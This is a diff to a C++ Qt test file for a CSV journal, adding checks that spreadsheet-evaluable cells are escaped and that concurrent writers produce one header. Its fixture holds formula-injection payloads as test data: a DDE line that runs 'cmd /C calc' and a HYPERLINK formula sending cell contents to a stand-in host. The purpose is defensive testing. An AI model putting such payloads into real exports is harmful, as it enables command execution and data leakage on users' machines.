@@ -5,11 +5,20 @@
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QProcess>
+#include <QRegularExpression>
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QTableView>
 
+#include <cstdio>
+#include <cstdlib>
+#include <iostream>
+#include <string>
+
 namespace {
+
+// Set for a child of this executable: a copy of Kivo journalling into the data folder it names.
+constexpr char ChildVar[] = "KIVO_TEST_JOURNAL_DATA";
 
 TJournalRecord Record(const QString &project, const QDateTime &time, int variable,
                       const QString &outcome) {
@@ -34,7 +43,8 @@ TJournalRecord TakenOf(const TJournalRecord &change, double after) {
     return r;
 }
 
-// Text outside ASCII, commas, quotes and line breaks in every free-text field.
+// Text outside ASCII, commas, quotes and line breaks in every free-text field, and text a
+// spreadsheet would evaluate, from a project file anybody may have written.
 std::vector<TJournalRecord> Awkward(const QString &project) {
     const QDateTime time = QDateTime::fromString("2026-12-07T18:14:58.123Z", Qt::ISODateWithMs);
     TJournalRecord saved = Record(project, time, 3, QStringLiteral("saved"));
@@ -43,10 +53,42 @@ std::vector<TJournalRecord> Awkward(const QString &project) {
     saved.NewValue = QStringLiteral("say \"hi\"\r\nnext\nline");
     TJournalRecord refused = Record(project, time.addSecs(2), 12, QStringLiteral("not saved"));
     refused.Title = QStringLiteral("日本");
-    refused.OldValue.clear();
     refused.Kind = QStringLiteral("undo");
     refused.Reason = QStringLiteral("The variable moved,\r\nnothing was written.");
-    return {saved, TakenOf(saved, 0.812), refused};
+    refused.OldValue = QStringLiteral("\r=1");
+    refused.NewValue = QStringLiteral("'=1");
+    TJournalRecord formula = Record(project, time.addSecs(4), 7, QStringLiteral("\t=1"));
+    formula.Title = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"Price\")");
+    formula.OldValue = QStringLiteral("-0.25");
+    formula.NewValue = QStringLiteral("+1+1");
+    formula.Kind = QStringLiteral("-x");
+    formula.Reason = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    return {saved, TakenOf(saved, 0.812), refused, formula};
+}
+
+// Whether a spreadsheet would evaluate the text or it begins with ': what the journal writes with
+// a ' in front. Plain numbers keep their sign.
+bool Marked(const QString &value) {
+    static const QRegularExpression number(QStringLiteral("^[+-]?[0-9]+(\\.[0-9]+)?$"));
+    return !value.isEmpty() && QStringView(u"=+-@\t\r'").contains(value.front()) &&
+           !number.match(value).hasMatch();
+}
+
+// A child: for each project read from stdin, journals one change of the variable and says so.
+int JournalEachLine(const QString &data, int variable) {
+    TJournal journal;
+    for (std::string line; std::getline(std::cin, line);) {
+        const QString project = QString::fromStdString(line).trimmed();
+        if (!TJournal::FileFor(project).startsWith(data))
+            return 3; // not into the real data folder
+        if (!journal.Append(Record(project, QDateTime::currentDateTimeUtc(), variable, "saved"))) {
+            std::fprintf(stderr, "%s\n", qPrintable(journal.Error()));
+            return 1;
+        }
+        std::printf("\n");
+        std::fflush(stdout);
+    }
+    return 0;
 }
 
 // The file's thirteen columns of a record, as a reader of the file must find them.
@@ -78,6 +120,7 @@ private slots:
     void initTestCase();
     void roundTripPastDamage();
     void readByPythonCsv();
+    void firstChangesAtOnce();
     void folderInPlaceOfFile();
     void historyPairsTakenAndShowsRefusals();
 
@@ -133,19 +176,71 @@ void TestJournal::readByPythonCsv() {
     for (const TJournalRecord &r : records)
         QVERIFY(journal.Append(r));
 
+    // The cells as a spreadsheet finds them, and the values by the README's rule.
     QProcess reader;
-    reader.start(python, {"-c",
-                          "import csv, json, sys\n"
-                          "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
-                          "    print(json.dumps(list(csv.reader(f))))\n",
-                          TJournal::FileFor(project)});
+    reader.start(python,
+                 {"-c",
+                  "import csv, json, sys\n"
+                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                  "    cells = list(csv.reader(f))\n"
+                  "values = [[v[1:] if v.startswith(\"'\") else v for v in r] for r in cells]\n"
+                  "print(json.dumps([cells, values]))\n",
+                  TJournal::FileFor(project)});
     QVERIFY(reader.waitForFinished(60000));
     QCOMPARE(reader.exitCode(), 0);
-    const QJsonArray rows = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
-    QCOMPARE(rows.size(), qsizetype(records.size() + 1));
-    QCOMPARE(rows[0].toArray().first().toString(), QStringLiteral("time_utc"));
-    for (size_t i = 0; i < records.size(); ++i)
-        QCOMPARE(rows[qsizetype(i) + 1].toVariant().toStringList(), Fields(records[i]));
+    const QJsonArray read = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
+    const QJsonArray cells = read[0].toArray();
+    const QJsonArray values = read[1].toArray();
+    QCOMPARE(values.size(), qsizetype(records.size() + 1));
+    QCOMPARE(values[0].toArray().first().toString(), QStringLiteral("time_utc"));
+    for (size_t i = 0; i < records.size(); ++i) {
+        const QStringList row = values[qsizetype(i) + 1].toVariant().toStringList();
+        QCOMPARE(row, Fields(records[i]));
+        // No cell a spreadsheet evaluates, and no ' but where the value needs one.
+        for (qsizetype c = 0; c < row.size(); ++c) {
+            const QString value = row[c];
+            QCOMPARE(cells[qsizetype(i) + 1][c].toString(), Marked(value) ? '\'' + value : value);
+        }
+    }
+}
+
+void TestJournal::firstChangesAtOnce() {
+    QProcess copies[3];
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.insert(ChildVar, FDir.path());
+    for (int i = 0; i < 3; ++i) {
+        copies[i].setProcessEnvironment(env);
+        copies[i].start(QCoreApplication::applicationFilePath(), {QString::number(i + 1)});
+    }
+    // Each round the copies are let go at once on a project not journalled yet.
+    for (int round = 0; round < 100; ++round) {
+        const QString project = Project(QStringLiteral("first%1.kvo").arg(round));
+        for (QProcess &copy : copies) {
+            copy.write(project.toUtf8() + '\n');
+            copy.waitForBytesWritten(30000);
+        }
+        for (QProcess &copy : copies) {
+            while (!copy.canReadLine())
+                QVERIFY2(copy.waitForReadyRead(30000), copy.readAllStandardError().constData());
+            copy.readLine();
+        }
+        QFile file(TJournal::FileFor(project));
+        QVERIFY(file.open(QIODevice::ReadOnly));
+        const QByteArray bytes = file.readAll();
+        // One byte order mark and one header, at the start.
+        QCOMPARE(bytes.lastIndexOf("\xEF\xBB\xBF"), 0);
+        QCOMPARE(bytes.lastIndexOf("time_utc,project,"), 3);
+        QCOMPARE(TJournal::Load(project).size(), std::size(copies));
+    }
+    for (QProcess &copy : copies) {
+        copy.closeWriteChannel();
+        QVERIFY(copy.waitForFinished(30000));
+        QCOMPARE(copy.exitCode(), 0);
+    }
+    // The losers' files with the header are gone.
+    const QDir folder = QFileInfo(TJournal::FileFor(Project("x.kvo"))).dir();
+    QCOMPARE(folder.entryList(QDir::Files).filter(QRegularExpression("\\.csv$")),
+             folder.entryList(QDir::Files));
 }
 
 void TestJournal::folderInPlaceOfFile() {
@@ -199,5 +294,14 @@ void TestJournal::historyPairsTakenAndShowsRefusals() {
     QCOMPARE(cell(0, 3), QStringLiteral("taken after 1.5 s"));
 }
 
-QTEST_MAIN(TestJournal)
+int main(int argc, char *argv[]) {
+    if (qEnvironmentVariableIsSet(ChildVar)) {
+        QCoreApplication app(argc, argv); // the same application name, so the same folder
+        return argc == 2 ? JournalEachLine(qEnvironmentVariable(ChildVar), std::atoi(argv[1])) : 2;
+    }
+    QApplication app(argc, argv);
+    TestJournal test;
+    QTEST_SET_MAIN_SOURCE_PATH
+    return QTest::qExec(&test, argc, argv);
+}
 #include "tst_journal.moc"
